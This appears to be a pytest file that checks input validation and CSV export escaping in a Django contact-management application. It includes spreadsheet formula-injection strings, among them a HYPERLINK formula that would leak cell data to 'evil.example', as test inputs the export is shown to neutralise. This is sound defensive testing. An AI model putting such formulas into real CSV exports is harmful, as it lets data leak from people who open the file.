"""Hostile input stops at the boundary with a 4xx naming where it was, and changes nothing (issue 14 §3, §4, §6).

Every path by which text comes in: the URL path, query parameters, headers, JSON bodies, forms, multipart uploads
and CSV rows. These run on SQLite and PostgreSQL (NUL and lone surrogates are what PostgreSQL cannot store).
"""

from __future__ import annotations

import io
import json
import time

import pytest

from faircontact.core.models import AuditEvent
from faircontact.records.models import Contact, Customer

from .conftest import give_reason


@pytest.fixture
def manager(make_user, api_for, use_profile):
    use_profile("wolverhampton-homes")
    return api_for(make_user("manager", "admin"))


@pytest.mark.parametrize("path", ["/api/v1/contacts/import", "/api/v1/contacts/import/jobs"])
@pytest.mark.parametrize(
    "content_type, body",
    [
        ("multipart/form-data", b"x"),
        ("multipart/form-data; boundary=", b"--\r\n"),
    ],
)
def test_multipart_without_a_boundary_is_a_400_not_a_500(manager, path, content_type, body):
    response = manager.client.generic("POST", path, body, content_type=content_type)
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "invalid"


@pytest.mark.parametrize("path", ["/api/v1/contacts/import", "/api/v1/contacts/import/jobs"])
def test_multipart_without_the_file_names_the_field(manager, path):
    response = manager.client.post(path, {"other": "x"})
    assert response.status_code == 422 and response.json()["error"]["field"] == "file"
    empty = manager.client.generic("POST", path, b"", content_type="multipart/form-data")
    assert empty.status_code == 422 and empty.json()["error"]["field"] == "file"


BAD = ["a\x00b", "a\x01b", "a\x0bb", "a\x1fb"]


@pytest.mark.parametrize("bad", BAD)
def test_control_characters_in_a_json_body_are_refused_naming_the_field(api, customer, bad):
    before = Contact.objects.count()
    body = {"customer": customer["id"], "channel": "phone", "subject": "ok", "body": f"fine {bad}"}
    response = api.post("/contacts", body)
    assert response.status_code == 400, response.content
    assert response.json()["error"] == {
        "code": "invalid_character",
        "message": "body: text may not contain control characters (such as NUL) other than tab and new line.",
        "field": "body",
    }
    nested = api.post("/customers", {"reference": "N-2", "name": "N", "representatives": [{"name": bad}]})
    assert nested.status_code == 400 and nested.json()["error"]["field"] == "representatives.0.name"
    assert Contact.objects.count() == before and not Customer.objects.filter(reference="N-2").exists()


def test_tab_and_new_lines_are_text_and_pass(api, customer):
    response = api.post("/contacts", {"customer": customer["id"], "channel": "email", "body": "a\tb\r\nc\n"})
    assert response.status_code == 201, response.content
    assert Contact.objects.get(pk=response.json()["id"]).body == "a\tb\r\nc\n"


def test_a_lone_surrogate_is_refused(api, customer):
    raw = '{"reference": "S-1", "name": "Lone \\ud800 surrogate"}'
    response = api.client.post("/api/v1/customers", raw, content_type="application/json")
    assert response.status_code == 400 and response.json()["error"]["field"] == "name"
    assert not Customer.objects.filter(reference="S-1").exists()


def test_control_characters_in_the_url_path_query_and_headers_are_refused(api, customer, use_profile):
    use_profile("wolverhampton-homes")
    path = api.client.get("/api/v1/letter-templates/decision%00")
    assert path.status_code == 400 and path.json()["error"]["field"] == "path"
    assert api.client.get("/customers/1%01").status_code == 400  # a page, not the API
    query = api.get("/customers", q="a\x0bb")
    assert query.status_code == 400 and query.json()["error"]["field"] == "q"
    header = api.client.get(f"/api/v1/customers/{customer['id']}", HTTP_X_ACCESS_REASON="why\x00")
    assert header.status_code == 400 and header.json()["error"]["field"] == "x-access-reason"
    assert not AuditEvent.objects.filter(action="view", reason__contains="why").exists()


def test_control_characters_in_a_form_and_a_multipart_field_are_refused(client, officer, manager, customer):
    client.force_login(officer)
    page = client.post("/customers/new", {"reference": "F-1", "name": "Form\x00Person"})
    assert page.status_code == 400 and b"name: text may not contain control characters" in page.content
    upload = io.BytesIO(b"customer_reference,channel\r\nC-1001,phone\r\n")
    upload.name = "contacts.csv"
    response = manager.client.post("/api/v1/contacts/import", {"file": upload, "note": "a\x00b"})
    assert response.status_code == 400 and response.json()["error"]["field"] == "note"
    assert not Customer.objects.filter(reference="F-1").exists() and not Contact.objects.exists()


def test_a_csv_row_with_a_nul_is_a_row_error_naming_the_column_and_nothing_is_stored(manager, customer):
    csv = (
        b"customer_reference,occurred_at,channel,subject,body\r\n"
        b"C-1001,2026-01-05T10:00:00+00:00,phone,fine,all good\r\n"
        b"C-1001,2026-01-05T11:00:00+00:00,phone,fine,a\x00b\r\n"
        b"C-1001,2026-01-05T12:00:00+00:00,phone,sub\x1bject,fine\r\n"
    )
    upload = io.BytesIO(csv)
    upload.name = "contacts.csv"
    result = manager.client.post("/api/v1/contacts/import", {"file": upload}).json()
    assert result["imported"] is False
    assert [(e["line"], e["field"]) for e in result["errors"]] == [(3, "body"), (4, "subject")]
    assert not Contact.objects.exists()


def test_a_request_over_the_size_limit_is_a_413_before_its_body_is_read(api, customer, settings):
    """The limit is read from Content-Length: the body here is never parsed (it is not even JSON)."""
    settings.FAIRCONTACT_MAX_REQUEST_BYTES = 1024 * 1024
    big = b"x" * (1024 * 1024 + 1)
    started = time.perf_counter()
    for path in ("/api/v1/gate", "/api/v1/contacts"):
        response = api.client.generic("POST", path, big, content_type="application/json")
        assert response.status_code == 413, response.content
        assert response.json()["error"]["code"] == "too_large"
    assert time.perf_counter() - started < 1.0
    assert not Contact.objects.exists()


def test_an_upload_may_be_larger_than_a_request_but_not_without_limit(manager, customer, settings):
    settings.FAIRCONTACT_MAX_REQUEST_BYTES = 1024
    settings.FAIRCONTACT_MAX_UPLOAD_BYTES = 64 * 1024
    rows = "".join(f"C-1001,2026-01-05T10:{m:02d}:00+00:00,phone,s,{'b' * 100}\r\n" for m in range(40))
    upload = io.BytesIO(("customer_reference,occurred_at,channel,subject,body\r\n" + rows).encode())
    upload.name = "contacts.csv"
    assert manager.client.post("/api/v1/contacts/import", {"file": upload}).json()["created"] == 40
    upload = io.BytesIO(b"customer_reference,channel\r\n" + b"C-1001,phone\r\n" * 6000)
    upload.name = "contacts.csv"
    assert manager.client.post("/api/v1/contacts/import", {"file": upload}).status_code == 413


def test_free_text_fields_have_a_maximum_length_naming_the_field(api, customer, settings):
    long_body = api.post("/contacts", {"customer": customer["id"], "channel": "email", "body": "x" * 200_001})
    assert long_body.status_code == 422, long_body.content
    assert long_body.json()["error"]["field"] == "body" and "200,000" in long_body.json()["error"]["message"]
    letter_sized = api.post("/contacts", {"customer": customer["id"], "channel": "email", "body": "é" * 200_000})
    assert letter_sized.status_code == 201
    summary = api.post("/complaints", {"customer": customer["id"], "reference": "L-1", "summary": "s" * 20_001})
    assert summary.status_code == 422 and summary.json()["error"]["field"] == "summary"
    assert Contact.objects.count() == 1


def test_a_long_field_in_a_web_form_is_an_error_on_the_form(client, officer, customer):
    """Issue 17 §8: the form comes back with the error summary linking to the field, beside the form's other
    errors, rather than a bare 422 page; nothing is saved and the message does not quote the text."""
    client.force_login(officer)
    page = client.post("/customers/new", {"reference": "F-2", "name": "n" * 20_001, "email": "not an address"})
    html = page.content.decode()
    assert page.status_code == 200 and "There is a problem" in html
    assert '<a href="#id_name">Full name must be 200 characters or fewer; it has 20,001.</a>' in html
    assert 'href="#id_email"' in html
    assert not Customer.objects.filter(reference="F-2").exists()
    # a letter-sized field: the contact's text holds up to FAIRCONTACT_MAX_BODY_CHARS
    url = f"/customers/{customer['id']}/contacts/new"
    html = give_reason(client, Customer.objects.get(pk=customer["id"])).post(url, {"body": "b" * 200_001}).content
    assert "What was said or written must be 200,000 characters or fewer; it has 200,001." in html.decode()
    assert Contact.objects.count() == 0


def test_json_escapes_of_new_lines_are_not_control_characters(api, customer):
    raw = json.dumps({"customer": customer["id"], "channel": "email", "body": "line\nline\ttab"})
    assert "\\n" in raw
    response = api.client.post("/api/v1/contacts", raw, content_type="application/json")
    assert response.status_code == 201


FORMULAS = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_the_one_csv_writer_keeps_formulas_as_text(text):
    from faircontact.core.csvfile import cell

    assert cell(text) == "'" + text and cell("plain") == "plain" and cell(-5) == "-5" and cell(None) == ""


def test_the_marker_export_escapes_formulas(make_user, api_for, customer, db):
    """Issue 14 §5: the report CSVs escaped formulas, the marker export did not."""
    from datetime import date

    from faircontact.records.models import Marker

    admin = api_for(make_user("register_admin", name="@SUM(1+1) Staff"))
    Customer.objects.filter(pk=customer["id"]).update(reference='=HYPERLINK("http://evil.example/?"&A1)')
    Marker.objects.create(
        customer_id=customer["id"], type="protocol_in_place", since=date(2026, 1, 5), set_by=admin.user
    )
    text = admin.get("/markers/export", format="csv").content.decode()
    assert text.splitlines()[1].split(",")[1].startswith("\"'=HYPERLINK(")
    assert ",'@SUM(1+1) Staff" in text
    assert "\n=" not in text and ",=" not in text and ',"=' not in text


def test_every_csv_the_product_writes_goes_through_the_one_writer():
    """A guard: ``csv.writer`` / ``csv.DictWriter`` appear only in ``core/csvfile.py``."""
    from pathlib import Path

    import faircontact

    root = Path(faircontact.__file__).parent
    writers = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if ("csv.writer(" in (t := p.read_text()) or "csv.DictWriter(" in t) and p.name != "csvfile.py"
    ]
    assert writers == []


# Dates: a floor, and events that precede what they answer (issue 14 §9)


def test_dates_before_the_floor_are_refused_on_every_path(api, customer, manager, client, officer, settings):
    old = api.post("/contacts", {"customer": customer["id"], "channel": "phone", "occurred_at": "1900-01-01T10:00"})
    assert old.status_code == 422 and old.json()["error"]["field"] == "occurred_at", old.content
    complaint = api.post(
        "/complaints", {"customer": customer["id"], "reference": "OLD", "summary": "s", "received_on": "1999-12-31"}
    )
    assert complaint.status_code == 422 and complaint.json()["error"]["field"] == "received_on"
    case = api.post("/cases", {"customer": customer["id"], "grounds": ["persistent"], "on": "0202-03-02"})
    assert case.status_code == 422 and case.json()["error"]["field"] == "on"
    upload = io.BytesIO(b"customer_reference,occurred_at,channel\r\nC-1001,1900-01-01T10:00:00+00:00,phone\r\n")
    upload.name = "contacts.csv"
    result = manager.client.post("/api/v1/contacts/import", {"file": upload}).json()
    assert result["imported"] is False and result["errors"][0]["field"] == "occurred_at"
    settings.FAIRCONTACT_OTP_REQUIRED_ROLES = []
    client.force_login(officer)
    page = client.post(
        f"/customers/{customer['id']}/complaints/new",
        {
            "reference": "OLD-2",
            "summary": "s",
            "received_on_day": "1",
            "received_on_month": "1",
            "received_on_year": "1999",
        },
    )
    assert "cannot be before 1 January 2000" in page.content.decode()
    settings.FAIRCONTACT_DATE_FLOOR = "1990-01-01"  # the organisation's own floor
    assert (
        api.post(
            "/complaints", {"customer": customer["id"], "reference": "OLD", "summary": "s", "received_on": "1999-12-31"}
        ).status_code
        == 201
    )
    assert not Contact.objects.exists()


def test_events_cannot_precede_what_they_answer(use_profile, make_user, api_for, settings):
    from faircontact.cases.models import Case

    from .test_letters import LADDERS, NEEDS, REASONS, act, decided_case

    settings.FAIRCONTACT_TODAY = "2026-04-20"
    world = decided_case("wolverhampton-homes", use_profile=use_profile, make_user=make_user, api_for=api_for)
    staff, cid = world["staff"], world["case"]["id"]  # referred 6 March, decided 9 March
    manager, decider = staff["manager"], staff["decision_maker"]
    early = manager.post(f"/cases/{cid}/actions", {"action": "notify", "channel": "letter", "on": "2026-03-08"})
    assert early.status_code == 422 and early.json()["error"]["field"] == "on", early.content
    act(manager, cid, "notify", channel="letter", on="2026-03-10")
    appeal = {"action": "appeal", "grounds": "Not fair", "on": "2026-03-12", "received_on": "2026-03-08"}
    before_told = manager.post(f"/cases/{cid}/actions", appeal)
    assert before_told.status_code == 422 and before_told.json()["error"]["field"] == "received_on"
    assert "told of the decision" in before_told.json()["error"]["message"]
    act(manager, cid, "appeal", grounds="Not fair", on="2026-03-12", received_on="2026-03-11")
    outcome = {"action": "decide_appeal", "outcome": "dismissed", "reasons": "r", "on": "2026-03-10"}
    answered_early = staff["director"].post(f"/cases/{cid}/actions", outcome)
    assert answered_early.status_code == 422 and answered_early.json()["error"]["field"] == "on"
    assert Case.objects.get(pk=cid).appeal_received_on.isoformat() == "2026-03-11"

    # a decision dated before the referral
    customer = staff["officer"].post("/customers", {"reference": "SEQ-2", "name": "Sam Sequence"}).json()
    complaint = (
        staff["officer"]
        .post(
            "/complaints",
            {"customer": customer["id"], "reference": "SEQ-C", "summary": "s", "final_response_on": "2026-02-02"},
        )
        .json()
    )
    other = (
        staff["officer"]
        .post(
            "/cases",
            {
                "customer": customer["id"],
                "grounds": ["persistent"],
                "on": "2026-03-02",
                "complaints": [complaint["id"]],
            },
        )
        .json()["id"]
    )
    for role, action, fields in LADDERS["wolverhampton-homes"]:
        act(staff[role], other, action, on="2026-03-03", **fields)
    act(manager, other, "consider_needs", on="2026-03-04", **NEEDS)
    if world["profile"].has_step("assess") and world["profile"].steps["assess"].required:
        act(manager, other, "assess", conclusion="unacceptable", findings="46 calls", on="2026-03-05")
    act(manager, other, "refer", on="2026-03-06")
    decision = {
        "action": "decide",
        "outcome": "restrict",
        "reasons": REASONS,
        "on": "2026-03-05",
        "protocol": {"channels_allowed": ["letter", "email"]},
    }
    refused = decider.post(f"/cases/{other}/actions", decision)
    assert refused.status_code == 422 and refused.json()["error"]["field"] == "on", refused.content
    assert "referred" in refused.json()["error"]["message"] and Case.objects.get(pk=other).state == "referred"


def test_the_text_analysis_reads_a_bounded_prefix(api, customer):
    from faircontact.core.limits import ANALYSED_CHARS
    from faircontact.indicators.abuse import possible_abuse

    threat = "I will kill you."
    assert possible_abuse(threat) is not None
    padding = "The boiler in the kitchen still does not work. " * (ANALYSED_CHARS // 40)
    assert possible_abuse(padding + threat) is None  # past the prefix: not read
    assert possible_abuse(threat + padding) is not None
    response = api.post("/gate", {"customer": customer["id"], "channel": "email", "body": threat + padding * 8})
    assert response.status_code == 200 and "possible_abuse" in response.json()["flags"]


@pytest.mark.parametrize("page", ["99999999999999999999", "9223372036854775808", "1000001"])
@pytest.mark.parametrize("path", ["/customers", "/contacts", "/complaints", "/cases", "/letters", "/audit"])
def test_a_page_number_beyond_any_offset_is_a_422_naming_page_not_a_500(make_user, api_for, db, path, page):
    api = api_for(make_user("officer", "manager", "auditor", "decision_maker"))
    response = api.client.get("/api/v1" + path, {"page": page}, HTTP_X_ACCESS_REASON="checking paging")
    assert response.status_code == 422, response.content
    assert "page" in response.content.decode()


def test_every_staff_form_checks_its_fields_lengths():
    """The middleware leaves over-long fields of staff forms to the form (issue 17 §8): so every form must be a
    LimitedForm, or an over-long value would reach a service."""
    import importlib
    import pkgutil

    from django import forms

    import faircontact
    from faircontact.pages.forms import LimitedForm

    for module in pkgutil.walk_packages(faircontact.__path__, "faircontact."):
        if module.name.rsplit(".", 1)[-1] in ("forms", "views", "permissions"):
            importlib.import_module(module.name)

    def every(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from every(sub)

    ours = [c for c in every(forms.Form) if c.__module__.startswith("faircontact.")]
    assert len(ours) > 20
    assert [c.__qualname__ for c in ours if not issubclass(c, LimitedForm)] == []
